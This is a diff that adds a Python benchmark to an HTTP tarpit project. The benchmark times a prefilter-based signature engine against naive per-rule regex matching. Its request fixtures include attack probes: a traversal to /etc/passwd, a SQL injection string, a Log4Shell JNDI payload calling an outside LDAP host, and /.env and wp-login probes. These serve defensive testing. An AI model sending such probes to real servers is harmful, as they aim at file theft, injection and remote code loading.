@@ -0,0 +1,99 @@
+"""
+Signature classification throughput: the engine (one prefilter alternation
+per target, then each rule of a target that matched) against checking every
+rule's regex on its own, over a mix of benign requests and probes. Rules are
+repeated --copies times to show how each approach scales with the size of
+the rule set:
+
+    python benchmarks/bench_signatures.py --requests 20000 --copies 1,4,16
+
+requests_per_s        classified requests per second
+rule_checks_per_s     requests per second times the number of rules
+"""
+import argparse
+import json
+import re
+import sys
+import time
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent / 'src'))
+
+from http_tarpit import config
+from http_tarpit.signatures import SignatureEngine, SignatureRule, load_rules
+
+
+HEADERS = {
+    'Host': 'example.com',
+    'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0',
+    'Accept': 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
+    'Accept-Encoding': 'gzip, deflate, br',
+    'Accept-Language': 'en-US,en;q=0.9',
+}
+REQUESTS = (
+    ('/', '', HEADERS),
+    ('/index.html', '', HEADERS),
+    ('/static/css/site.css', 'v=3', HEADERS),
+    ('/blog/2024/05/some-article-title', 'utm_source=feed&utm_medium=rss', HEADERS),
+    ('/.env', '', {**HEADERS, 'User-Agent': 'python-requests/2.31'}),
+    ('/wp-login.php', '', HEADERS),
+    ('/cgi-bin/../../../../etc/passwd', '', {'User-Agent': 'zgrab/0.x'}),
+    ('/search', "q=1' or '1'='1", HEADERS),
+    ('/', '', {**HEADERS, 'User-Agent': '${jndi:ldap://203.0.113.5/a}'}),
+    ('/api/v1/items', 'page=2&limit=50', HEADERS),
+)
+
+
+class NaiveEngine:
+    """Every rule compiled on its own and searched in turn."""
+
+    def __init__(self, rules: list):
+        self.rules = [(rule, re.compile(rule.pattern, re.IGNORECASE)) for rule in rules]
+
+    def classify(self, path: str, query: str, headers: dict) -> tuple:
+        header_text = '\n'.join(headers.values())
+        subjects = {'path': path, 'query': query, 'headers': header_text}
+        return tuple(rule.name for rule, regex in self.rules
+                     if any(regex.search(subjects[target]) for target in rule.targets))
+
+
+def replicate(rules: list, copies: int) -> list:
+    return [SignatureRule(f'{rule.name}_{copy}' if copy else rule.name, rule.pattern, rule.targets,
+                          rule.categories, rule.strategy)
+            for copy in range(copies) for rule in rules]
+
+
+def run(name: str, engine, rule_count: int, requests: int) -> dict:
+    started = time.perf_counter()
+    for i in range(requests):
+        engine.classify(*REQUESTS[i % len(REQUESTS)])
+    elapsed = time.perf_counter() - started
+    return {
+        'engine': name,
+        'rules': rule_count,
+        'requests': requests,
+        'seconds': round(elapsed, 3),
+        'requests_per_s': round(requests / elapsed),
+        'rule_checks_per_s': round(requests * rule_count / elapsed),
+    }
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument('--requests', type=int, default=20000)
+    parser.add_argument('--copies', default='1,4,16', help="comma-separated rule set multipliers")
+    parser.add_argument('--rules', type=Path, default=config.SIGNATURE_RULES_FILE)
+    args = parser.parse_args()
+    base = load_rules(args.rules)
+    for copies in (int(c) for c in args.copies.split(',')):
+        rules = replicate(base, copies)
+        engine = SignatureEngine(rules)
+        naive = NaiveEngine(rules)
+        for request in REQUESTS:
+            assert engine.classify(*request) == naive.classify(*request), request
+        for name, candidate in (('engine', engine), ('naive', naive)):
+            print(json.dumps(run(name, candidate, len(rules), args.requests)))
+
+
+if __name__ == '__main__':
+    main()